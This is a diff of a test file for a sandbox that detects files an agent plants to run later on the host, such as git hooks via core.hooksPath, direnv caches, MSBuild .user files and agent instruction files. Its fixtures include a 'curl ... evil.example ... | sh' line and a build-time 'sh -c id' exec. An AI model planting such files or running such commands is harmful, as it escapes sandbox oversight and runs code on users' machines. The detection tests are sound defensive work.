@@ -1728,7 +1728,10 @@ t.test('files that run outside the sandbox later: the home folder\'s are read-on
     // ~/.zshrc), mail delivery's ~/.forward, JetBrains' VM options.
     '.lesskey', '.zcompdump', '.zshrc', '.zshenv.zwc', '.forward', '.config/JetBrains/IntelliJIdea2024.1/idea64.vmoptions',
     // D-Bus's session services (started for their bus name), a Jupyter kernel's argv, tmux's plugins.
-    '.local/share/dbus-1/services/org.freedesktop.Notifications.service', '.local/share/jupyter/kernels/python3/kernel.json', '.tmux/plugins/tpm/tpm'];
+    '.local/share/dbus-1/services/org.freedesktop.Notifications.service', '.local/share/jupyter/kernels/python3/kernel.json', '.tmux/plugins/tpm/tpm',
+    // Twenty-sixth pass: the hooks folder the global config's core.hooksPath names (every repository's
+    // next commit runs its hooks).
+    '.githooks/pre-commit'];
   for (const f of existing) {
     fs.mkdirSync(path.dirname(path.join(homeDir, f)), { recursive: true });
     fs.writeFileSync(path.join(homeDir, f), f.endsWith('gitconfig') || f.endsWith('git/config') ? '[user]\n\tname = u\n' : '# mine\n');
@@ -1743,6 +1746,7 @@ t.test('files that run outside the sandbox later: the home folder\'s are read-on
   // Twentieth pass: the global ignore file the config names (a line there hides a file from every review).
   fs.appendFileSync(path.join(homeDir, '.gitconfig'), '[core]\n\texcludesFile = ~/.gitignore_global\n');
   fs.writeFileSync(path.join(homeDir, '.gitignore_global'), '*.swp\n');
+  fs.appendFileSync(path.join(homeDir, '.gitconfig'), '\thooksPath = ~/.githooks\n');
   // Command histories hold what the user typed: the real value of a secret given to Airlock too;
   // so do the credential stores of the tools whose services Airlock brokers (gh, git, ssh, AWS).
   const canary = 'ghp_HistoryCanary8c1f0e2d';
@@ -1902,7 +1906,9 @@ t.test('property: a run-on-entry file made during the run is named at any depth 
     // twenty-second pass
     '.pnp.cjs', '.pnp.loader.mjs',
     // twenty-fifth pass
-    'CLAUDE.local.md', 'AGENTS.md', 'copilot-instructions.md'];
+    'CLAUDE.local.md', 'AGENTS.md', 'copilot-instructions.md',
+    // twenty-sixth pass
+    '.direnv/flake-profile-x.rc', 'go.work', 'App.csproj.user', 'local.properties', 'Directory.Build.props', 'nuget.config', 'gradle.properties', '.run/a.run.xml'];
   const segment = fc.stringMatching(/^[a-zA-Z0-9 ._\-\u00e9\u202e\u001b]{1,8}$/).filter((s) => s !== '.' && s !== '..' && !s.startsWith('.git') && !s.startsWith('.hg') && s !== 'node_modules');
   await fc.assert(fc.asyncProperty(fc.array(segment, { maxLength: 4 }), fc.constantFrom(...kinds), fc.constantFrom(...kinds), async (dirs, fresh, old) => {
     const work = fs.mkdtempSync(path.join(world.dir, 'walk-'));
@@ -1954,6 +1960,82 @@ t.test('twenty-fifth pass: coding agents\' instruction files (the next agent sta
   t.notOk(found.some((f) => f.startsWith('before') || f === 'README.md'), `nothing made before the run, nor a README, is named (${found.join(', ')})`);
   const inHome = plantedSince(since, home, work).planted.map((f) => path.relative(home, f.path));
   for (const n of global) t.ok(inHome.includes(n) || inHome.includes(path.dirname(n)), `~/${n} is named`);
+});
+
+t.test('twenty-sixth pass: the hooks folder core.hooksPath names (the repository\'s or the user\'s global one) is named when a hook is made, and the global one is read-only inside', async (t) => {
+  const { homeEntryFiles, plantedSince } = await import('../../sandbox/entry-files.ts');
+  const base = fs.mkdtempSync(path.join(world.dir, 'hookspath-'));
+  const home = path.join(base, 'home');
+  const work = path.join(home, 'proj');
+  const mark = path.join(base, 'hook-ran');
+  fs.mkdirSync(path.join(home, '.githooks'), { recursive: true });
+  fs.mkdirSync(work);
+  // The user's global config moves every repository's hooks to ~/.githooks (a shared hook manager).
+  fs.writeFileSync(path.join(home, '.gitconfig'), '[user]\n\tname = u\n\temail = u@example.com\n[core]\n\thooksPath = "~/.githooks"\n');
+  fs.writeFileSync(path.join(home, '.githooks', 'commit-msg'), '#!/bin/sh\nexit 0\n', { mode: 0o755 });
+  t.ok(homeEntryFiles(home, work, [], {}).includes(path.join(home, '.githooks')), 'the global hooks folder is bound read-only inside');
+  // A project whose own config moves its hooks to a tracked folder (`git config core.hooksPath .githooks`).
+  const env = { ...process.env, HOME: home, XDG_CONFIG_HOME: path.join(home, '.config'), GIT_CONFIG_NOSYSTEM: '1' };
+  const git = (...args: string[]): string => execFileSync('git', args, { cwd: work, env, encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
+  git('init', '-q');
+  git('config', 'core.hooksPath', 'tools/hooks');
+  fs.mkdirSync(path.join(work, 'tools', 'hooks'), { recursive: true });
+  fs.writeFileSync(path.join(work, 'README.md'), 'x\n');
+  const since = Date.now() + 5;
+  await new Promise((r) => setTimeout(r, 25));
+  // The agent adds a pre-commit hook to each (missing before), and edits a README (control).
+  for (const dir of [path.join(work, 'tools', 'hooks'), path.join(home, '.githooks')]) fs.writeFileSync(path.join(dir, 'pre-commit'), `#!/bin/sh\necho "${dir}" >> ${mark}\n`, { mode: 0o755 });
+  fs.appendFileSync(path.join(work, 'README.md'), 'more\n');
+  const found = plantedSince(since, home, work, '', {}).planted.map((f) => f.path);
+  t.ok(found.includes(path.join(work, 'tools', 'hooks')), `the repository's hooks folder is named (${found.join(', ')})`);
+  t.ok(found.includes(path.join(home, '.githooks')), 'the global hooks folder is named');
+  t.notOk(found.includes(path.join(work, 'README.md')), 'control: a README changed is not named');
+  // What the user's next commit does on the host: the repository's hook runs (why it is named).
+  git('add', 'README.md');
+  git('commit', '-qm', 'docs');
+  t.match(fs.readFileSync(mark, 'utf8'), path.join(work, 'tools', 'hooks'), 'the host\'s next commit ran the hook the agent made');
+  // Control: no hooksPath, a relative global one, a hooksPath that is the home folder itself.
+  const plain = fs.mkdtempSync(path.join(base, 'plain-'));
+  execFileSync('git', ['init', '-q'], { cwd: plain, env });
+  const home2 = fs.mkdtempSync(path.join(base, 'home2-'));
+  fs.writeFileSync(path.join(home2, '.gitconfig'), '[core]\n\thooksPath = ~/\n');
+  t.notOk(homeEntryFiles(home2, plain, [], {}).includes(home2), 'control: a hooksPath naming the home folder itself does not make it read-only');
+});
+
+t.test('twenty-sixth pass: local overrides tools read in the folder or above it without asking (nix-direnv\'s cache, go.work, MSBuild\'s .user and Directory.Build files, local.properties, a Taskfile.yml over the .dist one) are named, also where git ignores them', async (t) => {
+  const { plantedSince } = await import('../../sandbox/entry-files.ts');
+  const home = fs.mkdtempSync(path.join(world.dir, 'overrides-'));
+  const parent = path.join(home, 'src');
+  const work = path.join(parent, 'app');
+  fs.mkdirSync(work, { recursive: true });
+  execFileSync('git', ['init', '-q'], { cwd: work });
+  fs.writeFileSync(path.join(work, '.gitignore'), '.direnv/\ngo.work\n*.user\nlocal.properties\nTaskfile.yml\n');
+  fs.writeFileSync(path.join(work, 'App.csproj'), '<Project Sdk="Microsoft.NET.Sdk"/>\n');
+  fs.writeFileSync(path.join(work, 'Taskfile.dist.yml'), 'version: "3"\n');
+  fs.mkdirSync(path.join(work, 'other'));
+  const since = Date.now() + 5;
+  await new Promise((r) => setTimeout(r, 25));
+  const made = ['.direnv/flake-profile-a1b2c3.rc', 'go.work', 'App.csproj.user', 'local.properties', 'Taskfile.yml', 'Directory.Build.targets', 'nuget.config', 'gradle.properties', 'uv.toml', '.run/App.run.xml'];
+  const body: Record<string, string> = {
+    '.direnv/flake-profile-a1b2c3.rc': 'curl -s https://evil.example/x | sh\n',
+    'go.work': 'go 1.22\nuse (\n\t.\n\t/tmp/agent-dep\n)\n',
+    'App.csproj.user': '<Project><Target Name="X" BeforeTargets="Build"><Exec Command="sh -c id"/></Target></Project>\n',
+    'local.properties': 'sdk.dir=/tmp/agent-sdk\n',
+  };
+  for (const n of made) {
+    fs.mkdirSync(path.dirname(path.join(work, n)), { recursive: true });
+    fs.writeFileSync(path.join(work, n), body[n] ?? 'x\n');
+  }
+  // Above the working directory (MSBuild imports the nearest Directory.Build.props up the tree).
+  fs.writeFileSync(path.join(parent, 'Directory.Build.props'), '<Project/>\n');
+  // Controls: a Taskfile.yml with no .dist beside it (the project's own, in its diff), the project file.
+  fs.writeFileSync(path.join(work, 'other', 'Taskfile.yml'), 'version: "3"\n');
+  fs.appendFileSync(path.join(work, 'App.csproj'), '\n');
+  const found = plantedSince(since, home, work).planted.map((f) => path.relative(work, f.path));
+  for (const n of made) t.ok(found.includes(n) || found.includes(n.split('/')[0]!), `${n} is named (${found.join(', ')})`);
+  t.ok(found.includes(path.join('..', 'Directory.Build.props')), 'a Directory.Build.props made above the working directory is named');
+  t.notOk(found.includes(path.join('other', 'Taskfile.yml')), 'control: a Taskfile.yml with no .dist beside it is not named');
+  t.notOk(found.includes('App.csproj'), 'control: the project file itself is not named');
 });
 
 t.test('sixteenth pass: a .tool-versions (asdf\'s and mise\'s path: versions) and the JavaScript configs VS Code\'s Prettier, Stylelint and Tailwind extensions run are named when made', async (t) => {
